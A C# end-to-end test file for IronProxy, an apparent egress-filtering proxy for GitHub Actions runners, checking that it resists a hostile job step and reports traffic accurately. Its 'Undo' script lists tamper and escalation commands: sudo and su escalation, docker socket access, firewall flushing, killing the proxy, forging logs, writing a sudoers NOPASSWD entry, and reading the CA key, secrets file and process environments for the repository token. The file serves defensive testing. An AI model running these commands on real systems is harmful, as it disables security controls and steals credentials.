using System.Globalization;
using IronProxy.EndToEnd.Tests.Worlds;

namespace IronProxy.EndToEnd.Tests.Deployments.GithubActions;

/// <summary>The generated action, run on a machine like GitHub's: what it refuses, that it holds, and what it says of it.</summary>
public sealed class GithubActionsTests
{
    private static readonly (string, string)[] Secrets = [("REPOSITORY_TOKEN", RunnerMachine.Secret)];

    /// <summary>What a hostile step tries. Each line may fail; none may help.</summary>
    private const string Undo = """
        set +e
        exec 2> /dev/null < /dev/null
        sudo -n true && echo UNDONE sudo
        su -c 'echo UNDONE su' root
        newgrp docker <<< 'echo hello | python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"/run/docker.sock\"); print(\"UNDONE docker\")"'
        python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect("/run/docker.sock"); print("UNDONE docker")'
        for tool in iptables ip6tables; do $tool -F && echo UNDONE $tool; $tool -t nat -F && echo UNDONE $tool; done
        nft flush ruleset && echo UNDONE nft
        ip rule add pref 1 table main && echo UNDONE rule
        iron-proxy-firewall unload && echo UNDONE firewall
        echo 'nameserver 198.51.100.10' > /etc/resolv.conf && echo UNDONE resolver
        mv /etc/resolv.conf /etc/resolv.conf.old && echo UNDONE resolver
        resolvectl query stolen.attacker.test
        for unit in iron-proxy iron-proxy-firewall; do systemctl stop $unit && echo UNDONE $unit; done
        systemctl start systemd-resolved && echo UNDONE resolved
        systemd-run true && echo UNDONE systemd-run
        kill -9 "$(pgrep -x iron-proxy)" && echo UNDONE kill
        echo '{"host":"forged.test"}' >> /var/log/iron-proxy.log && echo UNDONE log
        : > /var/log/iron-proxy.log && echo UNDONE log
        mv /var/log/iron-proxy.log /tmp/ && echo UNDONE log
        mv /usr/local/lib/iron-proxy /usr/local/lib/old && echo UNDONE programs
        cp /bin/true /usr/local/lib/iron-proxy/ironc && echo UNDONE programs
        cp /bin/true /usr/local/sbin/ls && echo UNDONE sbin
        echo 'runner ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/again && echo UNDONE sudoers
        cat /etc/iron-proxy/secrets.env && echo UNDONE secrets
        cat /etc/iron-proxy/ca.key && echo UNDONE key
        cat /proc/*/environ | tr '\0' '\n' | grep -a REPOSITORY_TOKEN && echo UNDONE environ
        exit 0
        """;

    [SkippableFact]
    public async Task The_job_is_held_from_the_action_on_and_its_traffic_is_summed_up()
    {
        SystemdMachine.Require();
        await using var machine = await RunnerMachine.BootAsync();
        await AssertNothingIsDoneWhenItCannotHoldAsync(machine);

        var start = await StartAsync(machine);
        Assert.True(start.ExitCode == 0, start.Output);
        Assert.DoesNotContain("::warning", start.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("4711", start.Output + string.Concat(machine.JobEnvironment.Values), StringComparison.Ordinal);
        Assert.Equal("/etc/iron-proxy/ca-bundle.crt", machine.JobEnvironment["SSL_CERT_FILE"]);
        Assert.Equal("/etc/iron-proxy/ca.crt", machine.JobEnvironment["NODE_EXTRA_CA_CERTS"]);

        var arrived = machine.Outside.Arrivals.Count;
        await machine.AssertHeldAsync(arrived);
        var proxy = await machine.SucceedAsync("pgrep -x iron-proxy");

        var undo = await machine.StepAsync(Undo);
        Assert.Equal(0, undo.ExitCode);
        Assert.DoesNotContain("UNDONE", undo.Output, StringComparison.Ordinal);
        Assert.Equal(proxy, await machine.SucceedAsync("pgrep -x iron-proxy"));
        await machine.SucceedAsync("iron-proxy-firewall check");
        await machine.AssertHeldAsync(arrived);

        // Whatever the resolver's file says, port 53 leads to the proxy.
        await machine.SucceedAsync("echo 'nameserver 198.51.100.10' > /etc/resolv.conf");
        await machine.AssertHeldAsync(arrived);

        await AssertSummaryAsync(machine);
        var again = await StartAsync(machine);
        Assert.Equal((1, true), (again.ExitCode, again.Output.Contains("cannot use sudo", StringComparison.Ordinal)));
        await AssertFaultsAreFoundAsync(machine);
    }

    [SkippableFact]
    public async Task Without_disable_sudo_and_disable_docker_it_says_that_it_does_not_hold()
    {
        SystemdMachine.Require();
        await using var machine = await RunnerMachine.BootAsync("firewall=nftables");

        var start = await StartAsync(machine, ("disable-sudo", "false"), ("disable-docker", "false"), ("warn", "true"), ("egress-rules", "egress-rules.yaml"));

        Assert.True(start.ExitCode == 0, start.Output);
        Assert.Contains("::warning title=iron-proxy does not hold::disable-sudo is false", start.Output, StringComparison.Ordinal);
        Assert.Contains("::warning title=iron-proxy does not hold::disable-docker is false", start.Output, StringComparison.Ordinal);
        var report = await machine.AttackAsync();
        Assert.Contains("privileges", report.Holes);
        Assert.Contains(report.Of("hole"), l => l.Target == "sudo");
        Assert.Contains(report.Of("hole"), l => l.Target.EndsWith("/docker.sock", StringComparison.Ordinal));

        // Warn mode records and lets through.
        Assert.Equal("200", (await machine.StepAsync("curl -sS -o /dev/null -w '%{http_code}' https://files.example.com/elsewhere")).Output);
        Assert.Contains("| ⚠️ | <code>files.example.com</code> | ", (await machine.UseAsync("summary", [], [])).Summary, StringComparison.Ordinal);
    }

    /// <summary>What is missing fails the step, and the machine is as it was: nothing is held, and nothing is taken.</summary>
    private static async Task AssertNothingIsDoneWhenItCannotHoldAsync(RunnerMachine machine)
    {
        await RefuseAsync(machine.UseAsync("", With(), []), "REPOSITORY_TOKEN");
        await RefuseAsync(machine.UseAsync("", With(), Secrets, "setpriv", "--bounding-set", "-net_admin", "--inh-caps", "-net_admin"), "CAP_NET_ADMIN");
        await RefuseAsync(StartAsync(machine, ("egress-rules", "missing.yaml")), "there is no file missing.yaml");
        await RefuseAsync(StartAsync(machine, ("warn", "maybe")), "must be true or false");
        await RefuseAsync(StartAsync(machine, ("programs", "/tmp")), "iron-proxy and ironc are not in /tmp");
        await machine.StepAsync("echo 'domains: [\"bad host\"]' > bad.yaml");
        await RefuseAsync(StartAsync(machine, ("egress-rules", "bad.yaml")), "bad.yaml:1:15");

        async Task RefuseAsync(Task<StepResult> step, string reason)
        {
            var result = await step;
            Assert.True(result.ExitCode != 0 && result.Output.Contains("::error title=iron-proxy::", StringComparison.Ordinal) && result.Output.Contains(reason, StringComparison.Ordinal), result.Output);
            Assert.Equal(0, (await machine.StepAsync("sudo -n true")).ExitCode);
            Assert.NotEqual(0, (await machine.RootAsync("test -e /etc/systemd/system/iron-proxy.service")).ExitCode);
            Assert.Empty(machine.JobEnvironment);
        }
    }

    /// <summary>The rows of the table are those of the log: hosts, how often, and the lines of the policy.</summary>
    private static async Task AssertSummaryAsync(RunnerMachine machine)
    {
        var before = await machine.UseAsync("summary", [], []);
        var requests = await machine.StepAsync("""
            for _ in 1 2 3; do curl -sS -o /dev/null -w '%{http_code} ' https://files.example.com/v1/a; done
            for _ in 1 2; do curl -sS -o /dev/null -w '%{http_code} ' https://exfiltration.test/; done
            """);
        Assert.Equal("200 200 200 403 403 ", requests.Output);
        var summary = await machine.UseAsync("summary", new() { ["show-full-paths"] = "true" }, []);

        Assert.Equal((0, 0), (before.ExitCode, summary.ExitCode));
        Assert.Equal(3, Cell(summary.Summary, "files.example.com", 3) - Cell(before.Summary, "files.example.com", 3));
        Assert.Equal(2, Cell(summary.Summary, "exfiltration.test", 5));
        Assert.Equal(0, Cell(summary.Summary, "exfiltration.test", 3));
        var policy = (await machine.SucceedAsync("cat /etc/iron-proxy/proxy.yaml")).Split('\n');
        var line = Array.FindIndex(policy, l => l.Contains("files.example.com", StringComparison.Ordinal)) + 1;
        Assert.Contains($"proxy.yaml&#58;{line} ", Row(summary.Summary, "files.example.com"), StringComparison.Ordinal);
        Assert.Contains("host&#95;not&#95;allowed", Row(summary.Summary, "exfiltration.test"), StringComparison.Ordinal);
        Assert.Contains("<details>", summary.Summary, StringComparison.Ordinal);
        Assert.DoesNotContain("forged.test", summary.Summary, StringComparison.Ordinal);

        // The input is heeded, and a log that is not there is no empty table.
        var elsewhere = await machine.UseAsync("summary", new() { ["log-file"] = "/var/log/none.log" }, []);
        Assert.Equal((1, true), (elsewhere.ExitCode, elsewhere.Summary.StartsWith("There is no summary", StringComparison.Ordinal)));

        static string Row(string summary, string host) => Assert.Single(summary.Split('\n'), l => l.Contains($"| <code>{host}</code> |", StringComparison.Ordinal));

        static int Cell(string summary, string host, int cell) => int.Parse(Row(summary, host).Split('|')[cell].Trim(), CultureInfo.InvariantCulture);
    }

    private static async Task AssertFaultsAreFoundAsync(RunnerMachine machine)
    {
        await FindAsync("iptables -t nat -D IRON-PROXY-DIVERT -p udp -m udp --dport 53 -j REDIRECT --to-ports 8053; iptables -I IRON-PROXY-WORKLOAD 1 -p udp --dport 53 -j ACCEPT", "iron-proxy-firewall load", "dns");
        await FindAsync("ip6tables -F IRON-PROXY-WORKLOAD", "iron-proxy-firewall load", "ipv6");
        await FindAsync("iron-proxy-firewall unload", "iron-proxy-firewall load", "tcp");
        await FindAsync("chmod 4755 /usr/bin/sudo; echo 'runner ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/again", "chmod 0700 /usr/bin/sudo; rm /etc/sudoers.d/again", "privileges");
        await FindAsync("chgrp docker /run/docker.sock; chmod 0660 /run/docker.sock", "chown root:root /run/docker.sock; chmod 0600 /run/docker.sock", "privileges");
        await machine.AssertHeldAsync(machine.Outside.Arrivals.Count);

        async Task FindAsync(string fault, string repair, string check)
        {
            await machine.SucceedAsync(fault);
            Assert.Contains(check, (await machine.AttackAsync()).Holes);
            await machine.SucceedAsync(repair);
        }
    }

    private static Dictionary<string, string> With(params (string Name, string Value)[] with)
    {
        var inputs = new Dictionary<string, string> { ["programs"] = "/programs", ["upstream-resolver"] = $"{OutsideWorld.Upstream}:53" };
        foreach (var (name, value) in with)
        {
            inputs[name] = value;
        }

        return inputs;
    }

    private static Task<StepResult> StartAsync(RunnerMachine machine, params (string Name, string Value)[] with) => machine.UseAsync("", With(with), Secrets);
}
